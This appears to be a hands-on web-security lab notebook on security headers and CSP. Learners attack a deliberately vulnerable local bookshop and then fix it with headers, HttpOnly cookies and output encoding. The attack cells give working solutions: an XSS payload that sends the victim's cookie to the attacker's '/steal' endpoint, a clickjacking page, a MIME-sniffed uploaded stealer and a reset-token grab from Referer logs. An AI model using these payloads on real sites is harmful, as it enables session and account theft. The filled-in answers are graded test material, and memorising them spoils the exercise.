# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 12 · Security headers and CSP
#
# *The catalogue's helmet section: `app.use(helmet())` plus a Content Security Policy.*
# Standards: [W3C Content Security Policy Level 3](https://www.w3.org/TR/CSP3/) (§6.1.3
# `script-src`, §6.4.2 `frame-ancestors`), [RFC 6797](https://www.rfc-editor.org/rfc/rfc6797)
# (HSTS, §7.2: never over plain HTTP), [RFC 7034](https://www.rfc-editor.org/rfc/rfc7034)
# (X-Frame-Options), the [Fetch standard](https://fetch.spec.whatwg.org/) (§3.5 `nosniff`),
# [W3C Referrer Policy](https://www.w3.org/TR/referrer-policy/) (§8.3),
# [RFC 6265bis](https://datatracker.ietf.org/doc/draft-ietf-httpbis-rfc6265bis/) §4.1.2
# (cookie attributes), the [OWASP Secure Headers Project](https://owasp.org/www-project-secure-headers/),
# the [OWASP XSS Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
# (rules 1 and 2) and OWASP ASVS 5.0 V3.4 (browser security mechanism headers). Grades follow
# the [MDN HTTP Observatory's scoring](https://developer.mozilla.org/en-US/observatory/docs/tests_and_scoring).
#
# The lab is a small online bookshop. Its pages are built with f-strings, its session cookie is
# readable by any script, and it sends almost no security headers. A second server plays the
# **attacker's site**, on another origin. The victim is **alice**: her browser is a real
# headless Chromium started by the lab; she logs in and then opens whatever you send her.

# %%
import html
from urllib.parse import quote

import httpx
import matplotlib.pyplot as plt

import labkit
from labkit.attacks import observatory, xss
from labkit.browser import find_chromium

lab = labkit.open_lab("12-headers")
SHOP, ATTACKER = lab.urls["main"], lab.urls["attacker"]
print("bookshop        ", SHOP, "and, over TLS,", lab.urls["https"])
print("attacker's site ", ATTACKER)
print(
    "victim's browser",
    find_chromium() or "none found: every attack below runs as a labelled SIMULATION",
)
lab

# %% [markdown]
# ## Learn
#
# A browser enforces a lot of security on a site's behalf — but only when the site asks, in
# response headers. The catalogue's pattern is one line of middleware plus a policy:
#
# ```ts
# app.use(helmet());
# app.use(helmet.contentSecurityPolicy({ directives: {
#   defaultSrc: ["'self'"], scriptSrc: ["'self'"], ... } }));
# ```
#
# | header | what the browser then refuses | standard |
# | --- | --- | --- |
# | `Content-Security-Policy: default-src 'self'` | to load anything from another origin; with no `'unsafe-inline'` for scripts, to run `<script>` blocks and `onerror=` handlers in the page | CSP3 §6.1 |
# | `…; frame-ancestors 'none'` | to show the page inside any frame (clickjacking) | CSP3 §6.4.2, replaces `X-Frame-Options` (RFC 7034) |
# | `X-Content-Type-Options: nosniff` | to run a response as a script unless its type is JavaScript | Fetch §3.5 |
# | `Referrer-Policy: strict-origin-when-cross-origin` | to tell other origins more than our origin (no path, no query) | Referrer Policy §3 |
# | `Strict-Transport-Security` | to ever talk to us over plain HTTP again — sent **only over HTTPS** | RFC 6797 §7.2 |
# | `Cross-Origin-Opener-Policy` / `-Resource-Policy: same-origin` | other origins keeping a handle on our window, or embedding our responses | HTML, Fetch |
#
# Headers are the second line of defence. The first is **output encoding**: user input put into
# HTML is turned into text (`&lt;` for `<`, `&quot;` for `"`), so it can never become markup.
# With both, one mistake in a template is not yet a breach.
#
# Here is what the shop sends today:

# %%
response = lab.client.get("/", params={"q": "<b>tea</b>"})
for name in (
    "content-security-policy",
    "x-frame-options",
    "x-content-type-options",
    "referrer-policy",
):
    print(f"{name:<24} {response.headers.get(name, '— missing —')}")
print()
print(response.text[response.text.index("<form") :][:240])

# %% [markdown]
# The search box echoes `q` twice — inside `value="…"` and in the heading — exactly as typed.
# `<b>tea</b>` became bold text. Anything else would become markup too.
#
# ## Attack 1 — steal the session cookie (reflected XSS)
#
# The attacker's site records whatever arrives at `ATTACKER + "/steal?c=..."` (and answers
# 204 No Content, so a browser sent there stays on its page). Write the JavaScript that sends
# alice's `document.cookie` there — navigating to that address (`location = ...`) is enough,
# `encodeURIComponent` keeps the cookie in one piece — and keep it in `steal_js`. Wrap it in
# the markup that makes the search page run it: that is your `payload`, the text typed into
# the search box. Store the search link alice will open, `SHOP + "/?q=" + quote(payload,
# safe="")`, in `url`. Success: the attacker's site receives her session cookie, and that
# cookie opens her account.

# %% labkit={"answer": "steal-cookie"}
### BEGIN SOLUTION
steal_js = f"location = '{ATTACKER}/steal?c=' + encodeURIComponent(document.cookie)"
payload = f"<script>{steal_js}</script>"
url = SHOP + "/?q=" + quote(payload, safe="")
### STUB
steal_js = payload = None  # TODO: JavaScript sending document.cookie to ATTACKER/steal?c=
url = None  # TODO: the search link carrying your payload
### END SOLUTION
url

# %% [markdown]
# The check starts alice's browser, logs her in, opens your link, and looks at what the
# attacker's site received — then tries that cookie on the shop's API.

# %% labkit={"check": "steal-cookie"}
lab.check("steal-cookie", url)

# %% [markdown]
# Everything the attacker's site has recorded so far:

# %%
[(entry["kind"], entry["value"][:60]) for entry in xss.loot(ATTACKER)]

# %% [markdown]
# ## Attack 2 — clickjacking
#
# alice's profile page has a button, **Make my reading list public**. Nothing stops another
# site from showing that page in an invisible `<iframe>` and putting a tempting button of its
# own exactly underneath the real one: alice clicks "Claim your free e-book!" and presses the
# shop's button instead. The shop's form even refuses posts from other sites (it checks the
# `Origin` header, as in lab 03) — but this click happens on the shop's own page.
#
# The shop's stylesheet gives the position away. Find where `#share` sits:

# %%
print(lab.client.get("/static/site.css").text)

# %% [markdown]
# Write `framing_page(target)`: the HTML of the attacker's page — `target` in an `<iframe>`
# (say 900 × 600, no border) at the page's top left corner, almost invisible (`opacity:
# 0.05`) and on top (`z-index: 2`); under it, at the very spot where the frame shows
# `#share`, a decoy `<button id="prize">Claim your free e-book!</button>` (`position:
# absolute`, `z-index: 1`) of the same size. Store `framing_page(SHOP + "/profile")` in
# `page`. The check hosts it on the attacker's site and has alice click `#prize`; success:
# her reading list became public.


# %% labkit={"answer": "clickjack"}
def framing_page(target: str) -> str:
    ### BEGIN SOLUTION
    return f"""<!doctype html><title>You won!</title>
<style>
  body {{ margin: 0; font: 16px system-ui }}
  iframe {{ position: absolute; top: 0; left: 0; width: 900px; height: 600px;
           border: 0; opacity: 0.05; z-index: 2 }}
  #prize {{ position: absolute; top: 180px; left: 24px; width: 280px; height: 44px;
           z-index: 1 }}
</style>
<iframe src="{target}"></iframe>
<button id="prize">Claim your free e-book!</button>"""
    ### STUB
    return ""  # TODO: the target, framed invisibly over a decoy #prize button
    ### END SOLUTION


page = framing_page(SHOP + "/profile")

# %% labkit={"check": "clickjack"}
lab.check("clickjack", page)

# %% [markdown]
# ## Attack 3 — a text file that runs (MIME sniffing)
#
# Suppose the shop had a CSP of `script-src 'self'`: inline scripts are refused, only files
# from the shop's own origin run. The shop also lets users upload files, and serves them from
# its own origin as `text/plain`. Without `X-Content-Type-Options: nosniff`, a browser asked
# to run a `text/plain` response as a script… runs it.
#
# Log in as carol, upload your `steal_js` from Attack 1 as `notes.txt`, and inject a
# `<script src="...">` pointing at it through the search box — no inline code at all. Store
# the search link in `sniff_url`. The check adds `script-src 'self'` to the shop's pages in
# alice's browser; success: her cookie reaches the attacker's site anyway.

# %% labkit={"answer": "sniff-upload"}
### BEGIN SOLUTION
carol = lab.users["carol"]
token = lab.client.post(
    "/api/auth/login", json={"email": carol.email, "password": carol.password}
).json()["accessToken"]
upload = lab.client.post(
    "/api/uploads",
    json={"filename": "notes.txt", "content": steal_js},
    headers={"Authorization": f"Bearer {token}"},
).json()["url"]
print(upload, lab.client.get(upload).headers["content-type"])
sniff_url = SHOP + "/?q=" + quote(f'<script src="{upload}"></script>', safe="")
### STUB
sniff_url = None  # TODO: upload the stealer as notes.txt, then a search link including it
### END SOLUTION

# %% labkit={"check": "sniff-upload"}
lab.check("sniff-upload", sniff_url)

# %% [markdown]
# ## Attack 4 — a token in the `Referer`
#
# Password-reset links carry a secret token in their URL. The reset page links to a
# third-party help centre — which is the attacker's site. The shop sends
# `Referrer-Policy: no-referrer-when-downgrade` (the browser default before 2020), so the
# browser tells every other site the *full* URL a visitor came from.
#
# Let alice ask for a reset, open her mail and click "help centre":

# %%
xss.referer_leak(SHOP, ATTACKER)

# %% [markdown]
# The help centre's log is `xss.loot(ATTACKER, "referer")`. Take the token out of the last
# `Referer` (`urllib.parse.urlsplit` and `parse_qs`) and store it in `reset_token`: with it,
# anyone can choose alice's new password.

# %% labkit={"answer": "referer-leak"}
from urllib.parse import parse_qs, urlsplit

### BEGIN SOLUTION
referer = xss.loot(ATTACKER, "referer")[-1]["value"]
reset_token = parse_qs(urlsplit(referer).query)["token"][0]
### STUB
reset_token = None  # TODO: the token from the help centre's Referer log
### END SOLUTION

# %% labkit={"check": "referer-leak"}
lab.check("referer-leak", reset_token)

# %% [markdown]
# ## Fix 1 — one middleware, the whole header set
#
# The shop adds headers in one place: a pure ASGI middleware that copies a header set into
# *every* response — pages, API answers, files, errors. Write the set:
# `security_headers(https) -> dict` (the middleware asks for it afresh on every response, so a
# CSP nonce, if you use one, can be fresh each time).
#
# - `Content-Security-Policy`: `default-src 'self'`, `script-src 'self'` (no
#   `'unsafe-inline'`, no `'unsafe-eval'`), `object-src 'none'`, `base-uri 'none'`,
#   `form-action 'self'`, `frame-ancestors 'none'`;
# - `X-Content-Type-Options: nosniff`; `Referrer-Policy: strict-origin-when-cross-origin`;
#   `X-Frame-Options: DENY` for browsers too old for `frame-ancestors`;
# - `Cross-Origin-Opener-Policy` and `Cross-Origin-Resource-Policy`: `same-origin`;
# - `Strict-Transport-Security: max-age=31536000; includeSubDomains` — **only when `https`**.
#
# Why only then? Over plain HTTP a man in the middle can strip or forge the header, so
# RFC 6797 §7.2 forbids sending it and browsers ignore it. The lab serves the same shop twice:
# on plain HTTP (`lab.url`, where alice's browser is attacked) and over real TLS with a
# certificate from the lab's own CA (`lab.urls["https"]`); the middleware passes
# `https=True` when the request came over TLS. (Behind a TLS-terminating proxy the app learns
# the scheme from `X-Forwarded-Proto` — trusted from the proxy's address only, e.g. uvicorn's
# `--forwarded-allow-ips`, never from anyone.)
#
# An `X-Frame-Options` in a `<meta>` tag does nothing (the HTML standard reads it only as a
# header), and a CSP with `'unsafe-inline'` lets every injected script run: both fail. The
# shop's own JavaScript is in files, so `script-src 'self'` needs no nonce; if you add one
# anyway, it must be new on every response (CSP3 warns against nonce reuse: an attacker who
# has seen it once puts it on their own `<script>`). Beside a nonce, `'unsafe-inline'` is
# ignored by CSP2+ browsers (it is there for CSP1 ones), so it is accepted. `frame-ancestors`
# replaces `X-Frame-Options` (CSP3 §6.4.2): either one refusing other sites is accepted, and
# when both are sent, browsers obey `frame-ancestors`.
#
# <!-- labkit:rules headers -->


# %% labkit={"answer": "headers"}
def security_headers(https: bool) -> dict[str, str]:
    ### BEGIN SOLUTION
    csp = "; ".join(
        [
            "default-src 'self'",
            "script-src 'self'",
            "style-src 'self'",
            "img-src 'self'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
            "frame-ancestors 'none'",
        ]
    )
    headers = {
        "Content-Security-Policy": csp,
        "X-Content-Type-Options": "nosniff",
        "Referrer-Policy": "strict-origin-when-cross-origin",
        "X-Frame-Options": "DENY",
        "Cross-Origin-Opener-Policy": "same-origin",
        "Cross-Origin-Resource-Policy": "same-origin",
    }
    if https:
        headers["Strict-Transport-Security"] = "max-age=31536000; includeSubDomains"
    return headers
    ### END SOLUTION


# %% [markdown]
# The check parses every header on nine kinds of response, over HTTP and HTTPS, replays
# attacks 1–4 in alice's browser against the shop with your headers (its templates still
# unencoded), logs in through the shop's own form (its script must still run), and grades the
# result with the Observatory's rules.

# %% labkit={"check": "headers"}
lab.check("headers", security_headers=security_headers)

# %% [markdown]
# ## Fix 2 — a cookie no script can read
#
# Even if a script runs, it should find nothing worth stealing. Write `session_cookie()`:
# the keyword arguments the login passes to Starlette's `response.set_cookie`. `httponly=True`
# hides the cookie from `document.cookie`; `secure=True` keeps it off plain HTTP (browsers
# treat `http://127.0.0.1` as a secure context, so it works here); `samesite="lax"` keeps it
# out of other sites' requests; `path="/"`.
#
# <!-- labkit:rules cookie -->


# %% labkit={"answer": "cookie"}
def session_cookie() -> dict:
    ### BEGIN SOLUTION
    return {"httponly": True, "secure": True, "samesite": "lax", "path": "/"}
    ### END SOLUTION


# %% labkit={"check": "cookie"}
lab.check("cookie", session_cookie=session_cookie)

# %% [markdown]
# ## Fix 3 — output encoding
#
# Write `escape(text) -> str`; the shop calls it on every value it puts into HTML — element
# text *and* quoted attribute values (the search box's `value="…"` and the results list's
# `data-query='…'`). Escaping `<` alone is not enough: in `value="…"`, a `"` ends the
# attribute and `" autofocus onfocus=…` adds the attacker's own; in `data-query='…'` a `'`
# does the same. Escape once: a reader searching for `Tom & Jerry` must see `Tom & Jerry`,
# not `Tom &amp; Jerry`. (A template engine with autoescape, such as Jinja2, does this for
# every variable.)
#
# The check runs its payloads in alice's browser **with CSP switched off**, so only your
# encoding stands in the way.
#
# <!-- labkit:rules encoding -->


# %% labkit={"answer": "encoding"}
def escape(text: str) -> str:
    ### BEGIN SOLUTION
    return html.escape(text, quote=True)
    ### END SOLUTION


# %% labkit={"check": "encoding"}
lab.check("encoding", escape=escape)

# %% [markdown]
# ## The Observatory's grade, before and after
#
# The MDN HTTP Observatory grades a site's headers: every site starts at 100, each test adds
# or subtracts points (bonuses count only once the site scores 90 without them), and the score
# maps to a letter. `observatory.scan(url)` applies its published rules (a subset: see
# `help(observatory)`) to the shop's HTTPS address, as the Observatory would; `more=[login]`
# also grades the cookie a login sets (the real Observatory never logs in).


# %%
def graded(shop_url: str) -> observatory.ObservatoryReport:
    """Scan a shop's HTTPS twin (trusting the lab's CA), the login's cookie included."""
    with httpx.Client(base_url=shop_url, trust_env=False) as shop:
        https_url = shop.get("/api/_lab/urls").json()["https"]
        ca = shop.get("/api/_lab/ca.pem").text
        login = shop.post("/api/auth/login", json=shop.get("/api/_lab/victim").json())
    return observatory.scan(https_url + "/", ca_pem=ca, more=[login])


before = graded(SHOP)
try:
    fixed = lab.patched(
        security_headers=security_headers, session_cookie=session_cookie, escape=escape
    )
    after = graded(fixed.url)
except Exception as exc:  # a fix still raising NotImplementedError
    print(f"write the three fixes first ({exc})")
    after = None
before

# %%
after

# %%
if after is not None:
    names = [t.test for t in before.tests]
    fig, ax = plt.subplots(figsize=(7, 3.6))
    y = range(len(names))
    ax.barh(
        [i + 0.2 for i in y],
        [t.modifier for t in before.tests],
        0.4,
        color="#cf222e",
        label=f"vulnerable shop: {before.summary()}",
    )
    ax.barh(
        [i - 0.2 for i in y],
        [t.modifier for t in after.tests],
        0.4,
        color="#1a7f37",
        label=f"your fix: {after.summary()}",
    )
    ax.set_yticks(list(y), names)
    ax.axvline(0, color="black", linewidth=0.8)
    ax.set_xlabel("score modifier (MDN HTTP Observatory rules)")
    ax.legend(loc="lower right", fontsize=8)
    plt.tight_layout()
    plt.show()

# %% [markdown]
# ## Verify — replay everything
#
# Your three fixes together. The check replays every attack in alice's browser — the cookie
# theft with CSP on and with CSP off, every payload context, the frame and the click, the
# sniffed upload, the leaking link — while she still logs in, searches for `<b>tea</b>` and
# sees it as text, and uploads a file; and the headers must grade **A** or better. It also
# replays **your own** exploits: the `payload` of Attack 1 and the `page` of Attack 2, aimed
# at the fixed shop, must now fail in alice's browser.
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
lab.check(
    "verify",
    {"payload": payload, "page": page},
    security_headers=security_headers,
    session_cookie=session_cookie,
    escape=escape,
)

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | no security headers; HTML built by string concatenation | `helmet()` — here one ASGI middleware — plus a CSP without `'unsafe-inline'`, and output encoding (or a template engine that autoescapes) |
# | No HTTPS redirect | Force HTTPS + HSTS header (sent over HTTPS only) |
#
# What a reviewer looks for in real code:
#
# - one place that sets the headers for **every** response (errors and files too), not a
#   header here and there in handlers;
# - a CSP with no `'unsafe-inline'`/`'unsafe-eval'` in `script-src`, `object-src 'none'`,
#   `base-uri`, and `frame-ancestors` — as a header (`frame-ancestors` and `X-Frame-Options`
#   are ignored in `<meta>`); the site's own JavaScript in files (or with nonces);
# - `nosniff` on everything, and uploads served with a type the server chose (better: from
#   another origin);
# - a `Referrer-Policy` at least as strict as `strict-origin-when-cross-origin`, and no secrets
#   in URLs where one can be avoided;
# - HSTS only over HTTPS, with a long `max-age` (preload only once every subdomain is ready);
# - session cookies `HttpOnly; Secure; SameSite`;
# - autoescaping templates; any `|safe`, `Markup(...)` or f-string HTML is a finding.
#
# Scanners help: run the [MDN HTTP Observatory](https://developer.mozilla.org/en-US/observatory)
# against a deployed site, and keep the grade in CI.

# %%
labkit.progress()

# %%
lab.close()
